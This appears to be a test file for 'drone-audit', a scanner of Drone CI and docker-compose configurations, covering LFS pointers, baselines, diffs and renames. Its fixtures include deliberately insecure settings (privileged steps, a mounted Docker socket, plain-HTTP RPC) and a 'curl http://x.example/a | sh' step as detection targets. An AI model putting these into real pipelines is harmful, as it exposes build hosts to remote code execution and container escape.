@@ -1,0 +1,286 @@
+import { mkdirSync, renameSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { droneAudit, temporaryFolder } from './support/cli.ts';
+import { commitFiles, git, hasGit, writeFiles } from './support/git.ts';
+
+// What was judged before and is not looked at now is not mended, and is not silent.
+
+const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d7a2146'.repeat(8)}\nsize 412\n`;
+const annexed = '/annex/objects/SHA256E-s412--4d7a21469f2e.yml\n';
+const stack = `services:
+  runner:
+    image: drone/drone-runner-docker:1.8.3
+    environment:
+      DRONE_RPC_HOST: drone.example.com
+      DRONE_RPC_PROTO: http
+    volumes: [/var/run/docker.sock:/var/run/docker.sock]
+`;
+const pipeline = `kind: pipeline
+type: docker
+name: default
+trigger: {event: [push]}
+steps:
+  - name: build
+    image: alpine:latest
+    privileged: true
+    commands: [make]
+`;
+
+interface Told {
+  readonly status: number | null;
+  readonly findings: readonly string[];
+  readonly problems: readonly string[];
+  readonly fixed?: number;
+  readonly known?: number;
+}
+
+interface Json {
+  readonly findings: readonly { readonly rule: string; readonly file: string }[];
+  readonly problems: readonly { readonly file: string; readonly message: string; readonly incomplete: boolean }[];
+  readonly summary: { readonly baseline?: { readonly fixed: number; readonly known: number } };
+}
+
+function scan(folder: string, ...options: readonly string[]): Told {
+  const { stdout, status } = droneAudit(['scan', '--format', 'json', ...options], { cwd: folder });
+  const { findings, problems, summary }: Json = JSON.parse(stdout);
+  return {
+    status,
+    findings: findings.map(({ rule, file }) => `${file} ${rule}`).sort(),
+    problems: problems.map(({ file, message, incomplete }) => `${file} ${message}${incomplete ? ' !' : ''}`),
+    fixed: summary.baseline?.fixed,
+    known: summary.baseline?.known,
+  };
+}
+
+/** A repository with a commit of these files, and a branch that is checked out. */
+function repositoryOf(files: Readonly<Record<string, string>>): string {
+  const folder = temporaryFolder();
+  git(folder, ['init', '-q']);
+  commitFiles(folder, { 'README.md': 'words\n', ...files });
+  git(folder, ['checkout', '-q', '-b', 'change']);
+  return folder;
+}
+
+describe('a file whose content is kept elsewhere', () => {
+  it.each([
+    ['docker-compose.yml', pointer, 'is kept in Git LFS, and its content is not here (git lfs pull) !', 3],
+    ['.drone.yml', pointer, 'is kept in Git LFS, and its content is not here (git lfs pull) !', 3],
+    ['docker-compose.yml', annexed, 'is kept in git-annex, and its content is not here (git annex get) !', 3],
+    ['deploy/stack.yaml', pointer, 'is kept in Git LFS or git-annex, and its content is not here', 0],
+  ])('is not read, and that is said: %s', (name, text, message, status) => {
+    const folder = temporaryFolder();
+    writeFiles(folder, {
+      [name]: text,
+      'photo.png': pointer,
+      'good/.drone.yml': pipeline.replace('privileged: true', ''),
+    });
+    const told = scan(folder);
+    expect(told.problems.filter((each) => each.includes('kept in'))).toEqual([`${name} ${message}`]);
+    expect(told.status).toBe(status);
+  });
+
+  it('is named once for all that are not named as those of Drone', () => {
+    const folder = temporaryFolder();
+    writeFiles(folder, { 'a.yml': pointer, 'b.yml': pointer, 'c.json': annexed });
+    const message =
+      "is kept in Git LFS or git-annex, and its content is not here; 2 more are, none of them named as Drone's files are";
+    expect(scan(folder).problems).toContain(`a.yml ${message}`);
+  });
+
+  it('is told of where a file names it, and where the command line does', () => {
+    const folder = temporaryFolder();
+    const compose = 'services:\n  a:\n    image: drone/drone:2\n    env_file: [server.env]\n';
+    writeFiles(folder, { 'docker-compose.yml': compose, 'server.env': pointer, 'x.txt': pointer });
+    expect(scan(folder, 'docker-compose.yml').problems.join('\n')).toContain('server.env is kept in Git LFS');
+    expect(scan(folder, 'x.txt')).toMatchObject({ status: 3 });
+  });
+
+  it('is any other text where it only speaks of that', () => {
+    const folder = temporaryFolder();
+    writeFiles(folder, { 'docker-compose.yml': `# ${pointer.replaceAll('\n', ' ')}\n${stack}` });
+    expect(scan(folder)).toMatchObject({ problems: [], status: 1 });
+  });
+
+  it.skipIf(!hasGit).each(['docker-compose.yml', 'deploy/stack.yaml'])('fixes nothing of what it held: %s', (name) => {
+    const folder = repositoryOf({ [name]: stack });
+    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
+    commitFiles(folder, { [name]: pointer });
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+    expect(scan(folder, '--baseline', 'baseline.yml')).toMatchObject({ findings: [], fixed: 0 });
+    commitFiles(folder, { [name]: 'services: {}\n' });
+    expect(scan(folder, '--diff', 'main').fixed).toBeGreaterThan(2);
+    expect(scan(folder, '--baseline', 'baseline.yml').fixed).toBeGreaterThan(2);
+  });
+
+  it.skipIf(!hasGit)('is told of before, where it is read now', () => {
+    const folder = repositoryOf({ 'docker-compose.yml': pointer, 'photo.png': pointer });
+    const [one] = scan(folder, '--diff', 'main').problems;
+    expect(one).toBe('docker-compose.yml is kept in Git LFS, and its content is not here (git lfs pull) !');
+    commitFiles(folder, { 'docker-compose.yml': stack });
+    expect(scan(folder, '--diff', 'main').problems).toEqual([
+      expect.stringMatching(
+        /^docker-compose\.yml is kept in Git LFS or git-annex: what it was in main .* is not known$/,
+      ),
+    ]);
+  });
+});
+
+describe.skipIf(!hasGit)('what is not looked at any more', () => {
+  it.each([
+    ['a program makes the pipeline', '.drone.yml', pipeline, { '.drone.star': 'def main(ctx):\n  return {}\n' }],
+    ['a text that nobody reads has its name', 'stack.yml', stack, { 'stack.txt': stack }],
+    ['a text that nobody reads comes with the change', 'stack.yml', stack, { 'deploy/notes.txt': stack }],
+  ])('is not fixed where %s', (_, name, text, now) => {
+    const folder = repositoryOf({ [name]: text });
+    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
+    git(folder, ['rm', '-q', name]);
+    commitFiles(folder, now);
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is fixed beside such a text that was there before', () => {
+    const folder = repositoryOf({ 'stack.yml': stack, 'notes.txt': stack });
+    git(folder, ['rm', '-q', 'stack.yml']);
+    expect(scan(folder, '--diff', 'main').fixed).toBeGreaterThan(2);
+  });
+
+  it('is known in another file, whatever else came with the change', () => {
+    const folder = repositoryOf({ 'stack.yml': stack });
+    git(folder, ['mv', 'stack.yml', 'runner.yml']);
+    commitFiles(folder, { 'notes.txt': stack });
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('makes the comparison incomplete where it is a submodule that the change adds', () => {
+    const folder = repositoryOf({ 'old/.drone.yml': pipeline, '.drone.yml': pipeline });
+    git(folder, ['rm', '-rq', 'old']);
+    const addSubmodule = (path: string): void => {
+      git(folder, ['update-index', '--add', '--cacheinfo', `160000,${git(folder, ['rev-parse', 'main'])},${path}`]);
+      mkdirSync(join(folder, path), { recursive: true });
+      git(folder, ['commit', '-qm', 'submodule']);
+    };
+    addSubmodule('old');
+    const message = 'old is a submodule that is new in the change, and what is in it was not seen !';
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ status: 3, fixed: 0, problems: [message] });
+    const left = 'old is a submodule and was left out of the comparison';
+    expect(scan(folder, '--diff', 'HEAD')).toMatchObject({ status: 0, problems: [left] });
+  });
+});
+
+describe.skipIf(!hasGit)('what a branch brings back', () => {
+  /** A branch from before `main` mended a file by removing it, or by changing it. */
+  function staleBranch(mended: string | undefined): string {
+    const folder = repositoryOf({ 'stack.yml': stack });
+    git(folder, ['checkout', '-q', 'main']);
+    if (mended === undefined) git(folder, ['rm', '-q', 'stack.yml']);
+    commitFiles(folder, mended === undefined ? {} : { 'stack.yml': mended }, 1_700_000_100);
+    git(folder, ['checkout', '-q', 'change']);
+    return folder;
+  }
+
+  it.each([undefined, 'services: {}\n'])('is new under another name, where the target has it no more', (mended) => {
+    const folder = staleBranch(mended);
+    git(folder, ['mv', 'stack.yml', 'runner.yml']);
+    git(folder, ['commit', '-qm', 'moved']);
+    const told = scan(folder, '--diff', 'main');
+    expect(told.findings).toContain('runner.yml plain-http-rpc');
+    expect(told.problems).toEqual([
+      expect.stringMatching(
+        /^runner\.yml has what was elsewhere in main .* is not in main any more: it counts as new$/,
+      ),
+    ]);
+  });
+
+  it('is known under another name, where the target has it still', () => {
+    const folder = staleBranch(`# words\n${stack}`);
+    git(folder, ['mv', 'stack.yml', 'runner.yml']);
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], problems: [] });
+  });
+
+  it('is known where it was: git joins the file with what the target made of it', () => {
+    expect(scan(staleBranch('services: {}\n'), '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is not hidden by what the config of the target does not say any more', () => {
+    const ignore = 'ignore:\n- {rule: privileged-step, reason: agreed}\n';
+    const folder = repositoryOf({ 'drone-audit.yml': ignore, '.drone.yml': pipeline.replace('privileged: true', '') });
+    git(folder, ['checkout', '-q', 'main']);
+    commitFiles(folder, { 'drone-audit.yml': 'failOn: high\n' }, 1_700_000_100);
+    git(folder, ['checkout', '-q', 'change']);
+    commitFiles(folder, { '.drone.yml': pipeline }, 1_700_000_200);
+    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml privileged-step');
+  });
+});
+
+describe.skipIf(!hasGit)('a pipeline that Drone runs by itself', () => {
+  it('has nothing that is known from one that it does not run', () => {
+    const folder = repositoryOf({ 'testdata/.drone.yml': pipeline });
+    scan(folder, '--write-baseline', 'baseline.yml');
+    git(folder, ['mv', 'testdata/.drone.yml', '.drone.yml']);
+    for (const options of [
+      ['--diff', 'main'],
+      ['--baseline', 'baseline.yml'],
+    ])
+      expect(scan(folder, ...options).findings).toContain('.drone.yml privileged-step');
+  });
+
+  it('is known from itself where the folder of the repository has another name', () => {
+    const folder = temporaryFolder();
+    for (const name of ['one', 'other']) {
+      mkdirSync(join(folder, name));
+      git(join(folder, name), ['init', '-q']);
+    }
+    writeFiles(folder, { 'one/.drone.yml': pipeline });
+    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
+    rmSync(join(folder, 'other'), { recursive: true });
+    renameSync(join(folder, 'one'), join(folder, 'other'));
+    expect(scan(folder, '--baseline', 'baseline.yml')).toMatchObject({ findings: [], fixed: 0 });
+  });
+});
+
+describe.skipIf(!hasGit)('a place that is spelled in another way', () => {
+  const before = `kind: pipeline
+type: docker
+name: default
+trigger: {branch: [main]}
+steps:
+  - name: build
+    image: "alpine:latest"
+    privileged: true
+    volumes:
+      - name: socket
+        path: /var/run/docker.sock
+    commands: ["curl http://x.example/a | sh"]
+volumes:
+  - name: socket
+    host: {path: /var/run/docker.sock}
+`;
+  const after = `kind: pipeline
+type: docker
+name: default
+trigger:
+  branch: main
+steps:
+  - image: alpine:latest
+    name: build
+    volumes: [{path: /var/run/docker.sock, name: 'socket'}]
+    privileged: True
+    commands:
+      - curl http://x.example/a | sh
+volumes: [{host: {path: "/var/run/docker.sock"}, name: socket}]
+`;
+
+  it('is known', () => {
+    const folder = repositoryOf({ '.drone.yml': before });
+    expect(scan(folder).findings).toContain('.drone.yml docker-socket-volume');
+    commitFiles(folder, { '.drone.yml': after });
+    expect(scan(folder, '--diff', 'main', '--pedantic')).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is new where another value is in it', () => {
+    const folder = repositoryOf({ '.drone.yml': before });
+    commitFiles(folder, { '.drone.yml': after.replaceAll('/var/run/docker.sock', '/') });
+    expect(scan(folder, '--diff', 'main').findings).not.toEqual([]);
+  });
+});
